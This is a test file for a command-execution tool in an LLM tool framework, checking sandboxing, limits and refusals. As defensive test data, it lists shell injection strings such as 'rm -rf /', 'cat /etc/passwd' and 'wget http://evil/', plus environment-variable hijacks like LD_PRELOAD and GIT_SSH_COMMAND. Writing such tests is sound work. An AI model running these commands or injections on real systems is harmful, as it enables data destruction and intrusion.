import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { mkdtemp, realpath, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { ToolsConfig } from '../../config/types.js';
import type { JsonObject } from '../../core/values.js';
import { type Grants, grantsFromConfig, noGrants } from '../../security/grants.js';
import { createPermissions } from '../../security/permissions.js';
import { callTool } from '../run-tool.case.js';
import processExecutor from './process-executor.js';

let dir: string;
beforeEach(async () => {
  dir = await realpath(await mkdtemp(join(tmpdir(), 'llmspell-executor-')));
});
afterEach(() => rm(dir, { recursive: true, force: true }));

interface Options {
  grants?: Partial<Grants>;
  signal?: AbortSignal;
  system?: NonNullable<ToolsConfig['system']>;
  searchPath?: string;
}

function call(input: Record<string, unknown>, options: Options = {}) {
  const { grants = { run: ['*'], read: [dir] }, signal, system, searchPath } = options;
  const permissions = createPermissions({ ...noGrants(), ...grants }, { cwd: dir, searchPath });
  const host = { config: { ...(system && { system }) } };
  return callTool(processExecutor, input, { permissions, host, ...(signal && { signal }) });
}

const sh = (script: string, more: Record<string, unknown> = {}, options: Options = {}) =>
  call({ executable: 'sh', arguments: ['-c', script], ...more }, options);
const resultOf = async (work: ReturnType<typeof call>) => (await work).result as JsonObject;

let sleeps = 0;
const uniqueSleep = () => `${8000 + (sleeps += 1)}.${process.pid}`;
const running = (text: string) =>
  execFileSync('ps', ['-eo', 'stat,args'], { encoding: 'utf8' })
    .split('\n')
    .filter((line) => line.includes(text) && !line.startsWith('Z'));
async function until(condition: () => boolean): Promise<void> {
  while (!condition()) await new Promise((resolve) => setTimeout(resolve, 10));
}

describe('a run', () => {
  it('gives exit code and output', async () => {
    expect(await call({ executable: 'echo', arguments: ['a  b', 7, true] })).toMatchObject({
      success: true,
      operation: 'execute',
      text: 'a  b 7 true\n',
      message: "'echo' ended with exit code 0",
      result: {
        executable: 'echo',
        arguments: ['a  b', '7', 'true'],
        exit_code: 0,
        signal: null,
        success: true,
        stdout: 'a  b 7 true\n',
        stderr: '',
        stdout_truncated: false,
        timed_out: false,
      },
    });
  });

  it('takes older spellings', async () => {
    mkdirSync(join(dir, 'sub'));
    const old = {
      command: 'sh',
      args: ['-c', 'pwd; cat; echo $X'],
      cwd: 'sub',
      env: { X: 1 },
      stdin: 'in\n',
    };
    expect((await resultOf(call({ ...old, timeout: 20_000, operation: 'run' }))).stdout).toBe(
      `${dir}/sub\nin\n1\n`,
    );
  });

  it('that fails is a result, unless it is to be checked', async () => {
    const failing = 'echo out; echo why >&2; exit 3';
    const result = { exit_code: 3, success: false, stdout: 'out\n', stderr: 'why\n' };
    expect(await sh(failing)).toMatchObject({
      success: true,
      error: null,
      result,
      text: "out\n\nwhy\n\n['sh' ended with exit code 3]",
    });
    expect(await sh(failing, { check: true })).toMatchObject({
      success: false,
      error: "'sh' ended with exit code 3: why",
      error_details: { code: 'tool.failed', details: { exit_code: 3, timed_out: false } },
      result,
    });
    expect(await sh('true', { check: true })).toMatchObject({ success: true });
  });

  it('tells the signal', async () => {
    expect(await resultOf(sh('kill -TERM $$'))).toMatchObject({
      exit_code: null,
      signal: 'SIGTERM',
      success: false,
    });
  });

  it('passes arguments through as they are', async () => {
    const args = [
      '$(touch pwned)',
      '`touch pwned`',
      '; touch pwned',
      '&& touch pwned',
      '| touch pwned',
      '*',
      '~',
    ];
    const { stdout } = await resultOf(call({ executable: 'printf', arguments: ['%s\\n', ...args] }));
    expect(stdout).toBe(args.map((arg) => `${arg}\n`).join(''));
    expect(existsSync(join(dir, 'pwned'))).toBe(false);
  });

  it('runs in the folder that is asked for, absolute or relative', async () => {
    mkdirSync(join(dir, 'sub'));
    for (const working_directory of [join(dir, 'sub'), 'sub'])
      expect((await resultOf(call({ executable: 'pwd', working_directory }))).stdout).toBe(`${dir}/sub\n`);
  });

  it('gets its input, binary too, and none when there is none', async () => {
    const cat = (more: object) => resultOf(call({ executable: 'cat', ...more }));
    expect((await cat({ input: 'ünï\n' })).stdout).toBe('ünï\n');
    expect((await cat({})).stdout).toBe('');
    const bytes = Buffer.from([0, 255, 128, 10]).toString('base64');
    expect((await cat({ input: bytes, input_encoding: 'base64', encoding: 'base64' })).stdout).toBe(bytes);
    await expect(cat({ input: 'no base64!', input_encoding: 'base64' })).rejects.toMatchObject({
      code: 'input.invalid',
    });
  });

  it('need not read its input', async () => {
    expect(await resultOf(call({ executable: 'true', input: 'x'.repeat(2_000_000) }))).toMatchObject({
      exit_code: 0,
    });
  });

  it('gives what is not UTF-8 as text with marks, or as base64', async () => {
    const odd = { executable: 'printf', arguments: ['a\\377b'] };
    expect((await resultOf(call(odd))).stdout).toBe('a\uFFFDb');
    expect((await resultOf(call({ ...odd, encoding: 'base64' }))).stdout).toBe('Yf9i');
  });

  it('sees a clean environment and what it is given', async () => {
    process.env.LLMSPELL_TEST_CANARY = 'canary';
    const { stdout } = await resultOf(call({ executable: 'env', environment: { MINE: 'x', COUNT: 3 } }));
    delete process.env.LLMSPELL_TEST_CANARY;
    expect(stdout).not.toContain('canary');
    expect(stdout).toMatch(/^MINE=x$/m);
    expect(stdout).toMatch(/^COUNT=3$/m);
  });
});

describe('the output', () => {
  it('is cut, counted and read on, so that the program is not held up', async () => {
    const script = 'head -c 3000000 /dev/zero | tr "\\0" x; head -c 10 /dev/zero >&2; echo done > mark';
    expect(await resultOf(sh(script, { max_output_size: 1000 }))).toMatchObject({
      stdout: 'x'.repeat(1000),
      stdout_bytes: 3_000_000,
      stdout_truncated: true,
      stderr_bytes: 10,
      stderr_truncated: false,
      exit_code: 0,
    });
    expect(readFileSync(join(dir, 'mark'), 'utf8')).toBe('done\n');
  });

  it('is never cut inside a character', async () => {
    const { stdout } = await resultOf(call({ executable: 'printf', arguments: ['ab✓'], max_output_size: 4 }));
    expect(stdout).toBe('ab');
  });

  it('is limited by the configuration, whatever the call asks for', async () => {
    const system = { max_output_size: 5 };
    for (const more of [{}, { max_output_size: 1000 }])
      expect(await resultOf(sh('echo 1234567890', more, { system }))).toMatchObject({
        stdout: '12345',
        stdout_truncated: true,
      });
    expect((await resultOf(sh('echo 1234567890', { max_output_size: 2 }, { system }))).stdout).toBe('12');
  });

  it('without an end takes no memory', async () => {
    const before = process.memoryUsage().rss;
    const { stdout_bytes } = await resultOf(
      call({ executable: 'yes', timeout_ms: 700, max_output_size: 1000 }),
    );
    expect(stdout_bytes).toBeGreaterThan(1_000_000);
    expect(process.memoryUsage().rss - before).toBeLessThan(200_000_000);
  });
});

describe('the time limit', () => {
  it('ends the whole tree and gives what there is', async () => {
    const sleep = uniqueSleep();
    const script = `echo first; trap '' TERM; setsid sleep ${sleep} & sh -c 'sleep ${sleep}'; echo second`;
    expect(await sh(script, { timeout_ms: 300 })).toMatchObject({
      success: true,
      message: expect.stringContaining('timeout'),
      result: { timed_out: true, exit_code: null, success: false, stdout: 'first\n', signal: 'SIGKILL' },
    });
    expect(running(sleep)).toEqual([]);
  });

  it('is a failure when it is to be checked', async () => {
    expect(await call({ executable: 'sleep', arguments: ['60'], timeout_ms: 50, check: true })).toMatchObject(
      { success: false, error_details: { code: 'component.timeout' } },
    );
  });

  it('comes from the configuration, which no call exceeds', async () => {
    const system = { command_timeout_seconds: 1 };
    for (const more of [{}, { timeout_ms: 60_000 }])
      expect(
        await resultOf(call({ executable: 'sleep', arguments: ['60'], ...more }, { system })),
      ).toMatchObject({ timed_out: true });
  });
});

describe('the end', () => {
  it('of the call is the end of everything', async () => {
    const sleep = uniqueSleep();
    const abort = new AbortController();
    const script = `sh -c "sleep ${sleep} & wait" & setsid sh -c 'sleep ${sleep} & exit'; trap '' TERM; sleep ${sleep}; echo > mark`;
    const work = sh(script, {}, { signal: abort.signal });
    await until(() => running(sleep).filter((line) => / sleep /.test(line)).length >= 3);
    abort.abort(new Error('enough'));
    await expect(work).rejects.toThrow('enough');
    await until(() => running(sleep).length === 0);
    expect(existsSync(join(dir, 'mark'))).toBe(false);
  });

  it.each([
    ['a background job', (s: string) => `sleep ${s} & echo done`],
    ['a daemon', (s: string) => `setsid sh -c 'sleep ${s} & exit' & sleep 0.1; echo done`],
  ])('of the program is the end of %s that it left', async (_title, script) => {
    const sleep = uniqueSleep();
    expect(await resultOf(sh(script(sleep), { timeout_ms: 20_000 }))).toMatchObject({
      stdout: 'done\n',
      exit_code: 0,
      timed_out: false,
    });
    expect(running(sleep)).toEqual([]);
  });
});

describe('what is refused', () => {
  it.each([
    'ls; cat /etc/passwd',
    'echo test && rm -rf /',
    'x & wget http://evil/',
    'echo $(id)',
    'echo `id`',
    '|cat',
    ';cat',
    '../bin/sh',
    '$SHELL',
  ])('%j has dangerous characters', async (executable) => {
    await expect(call({ executable })).rejects.toMatchObject({
      code: 'input.invalid',
      message: expect.stringContaining('dangerous characters'),
    });
  });

  it.each(['', '  ', '\t'])('%j is no program', async (executable) => {
    await expect(call({ executable })).rejects.toMatchObject({ message: expect.stringContaining('empty') });
  });

  it.each(['rm', 'curl', 'echo', 'ls', 'cat', 'no-such-program', '/bin/sh', './x'])(
    '%s without a grant',
    async (executable) => {
      await expect(call({ executable }, { grants: { read: ['/'] } })).rejects.toMatchObject({
        code: 'permission.run',
        message: expect.stringContaining('not permitted'),
        hint: expect.stringContaining('--allow-run='),
      });
    },
  );

  it('is a program that is not there', async () => {
    await expect(call({ executable: 'no-such-program' })).rejects.toMatchObject({
      code: 'tool.failed',
      message: expect.stringContaining('not found'),
    });
    await expect(call({ executable: 'echo hello' })).rejects.toMatchObject({
      code: 'tool.failed',
      hint: expect.stringContaining('`arguments`'),
    });
  });

  it('is everything when programs are switched off', async () => {
    await expect(
      call({ executable: 'echo' }, { system: { allow_process_execution: false } }),
    ).rejects.toMatchObject({ code: 'permission.run', message: expect.stringContaining('switched off') });
  });

  it('is a folder that is not granted, or none', async () => {
    const at = (working_directory: string) => call({ executable: 'pwd', working_directory });
    await expect(at('/etc')).rejects.toMatchObject({ code: 'permission.read' });
    await expect(at(join(dir, 'missing'))).rejects.toMatchObject({ code: 'tool.failed' });
  });

  it('is a program of the same name elsewhere', async () => {
    writeFileSync(join(dir, 'cat'), '#!/bin/sh\necho evil\n');
    chmodSync(join(dir, 'cat'), 0o755);
    for (const executable of ['./cat', join(dir, 'cat')])
      await expect(call({ executable }, { grants: { run: ['cat'] } })).rejects.toMatchObject({
        code: 'permission.run',
      });
  });

  it('is a granted name that the run could have put into the search path', async () => {
    writeFileSync(join(dir, 'tool'), '#!/bin/sh\necho evil\n');
    chmodSync(join(dir, 'tool'), 0o755);
    const grants = { run: ['tool'], write: [dir] };
    await expect(call({ executable: 'tool' }, { grants, searchPath: dir })).rejects.toMatchObject({
      code: 'permission.run',
      message: expect.stringContaining('where the run may write'),
    });
  });

  it('is a link out of the granted folder as working directory', async () => {
    symlinkSync('/etc', join(dir, 'out'));
    await expect(call({ executable: 'pwd', working_directory: 'out' })).rejects.toMatchObject({
      code: 'permission.read',
    });
  });
});

describe('gadgets', () => {
  /** A script that leaves a mark when anything runs it. */
  function trap(name: string): string {
    const path = join(dir, name);
    writeFileSync(path, `#!/bin/sh\ntouch ${dir}/pwned\n`);
    chmodSync(path, 0o755);
    return path;
  }

  it.each<[string, string, string[]]>([
    ['LD_PRELOAD', 'echo', []],
    ['GIT_SSH_COMMAND', 'git', ['fetch', 'ssh://localhost/x']],
    ['GIT_EXTERNAL_DIFF', 'git', ['diff']],
    ['GIT_PAGER', 'git', ['--paginate', 'version']],
    ['PAGER', 'git', ['--paginate', 'version']],
    ['NODE_OPTIONS', 'node', ['-e', '0']],
    ['PYTHONSTARTUP', 'python3', ['-c', '0']],
    ['BASH_ENV', 'bash', ['-c', ':']],
    ['PATH', 'env', ['git']],
  ])('%s cannot be set for %s', async (name, executable, args) => {
    const value = trap('evil.sh');
    await expect(call({ executable, arguments: args, environment: { [name]: value } })).rejects.toMatchObject(
      { code: 'input.invalid', message: expect.stringContaining(name) },
    );
    expect(existsSync(join(dir, 'pwned'))).toBe(false);
  });

  it('in the search path are not found by granted programs either', async () => {
    trap('git-evil');
    const searchPath = `${dir}:${process.env.PATH}`;
    const grants = { run: ['git'], write: [dir] };
    expect(
      await resultOf(call({ executable: 'git', arguments: ['evil'] }, { grants, searchPath })),
    ).toMatchObject({ success: false });
    expect(existsSync(join(dir, 'pwned'))).toBe(false);
  });

  it('are what a granted program does with its own options: the grant is for all it can do', async () => {
    const options = ['ls-remote', `--upload-pack=${trap('evil.sh')}`, dir];
    const granted = await resultOf(
      call({ executable: 'git', arguments: options }, { grants: { run: ['git'] } }),
    );
    expect(granted.success).toBe(false);
    await expect(call({ executable: 'git', arguments: options }, { grants: {} })).rejects.toMatchObject({
      code: 'permission.run',
    });
  });
});

it('takes what the configuration allows', async () => {
  const config = { tools: { system: { allowed_commands: ['echo'] } }, permissions: { run: ['printf'] } };
  const grants = grantsFromConfig(config, { cwd: dir, tmpdir: dir });
  for (const executable of ['echo', 'printf'])
    expect(await resultOf(call({ executable, arguments: ['x'] }, { grants }))).toMatchObject({
      success: true,
    });
  await expect(call({ executable: 'cat' }, { grants })).rejects.toMatchObject({ code: 'permission.run' });
});
